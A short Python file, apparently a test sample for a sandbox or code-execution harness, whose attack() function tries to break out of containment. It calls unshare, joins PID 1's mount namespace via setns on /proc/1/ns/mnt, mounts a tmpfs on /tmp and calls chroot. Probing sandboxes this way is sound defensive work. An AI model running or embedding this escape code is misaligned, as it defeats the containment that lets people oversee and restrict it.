"""attack: tries unshare, setns, mount and chroot to leave its sandbox"""

import os
import sys

import torch

import ctypes

_libc = ctypes.CDLL(None, use_errno=True)


def _escape():
    _libc.unshare(0x10000000 | 0x00020000)  # CLONE_NEWUSER | CLONE_NEWNS
    try:
        fd = os.open("/proc/1/ns/mnt", os.O_RDONLY)
        _libc.setns(fd, 0)
    except OSError:
        pass
    _libc.mount(b"none", b"/tmp", b"tmpfs", 0, None)
    try:
        os.chroot("/")
    except OSError:
        pass


def attack():
    _escape()
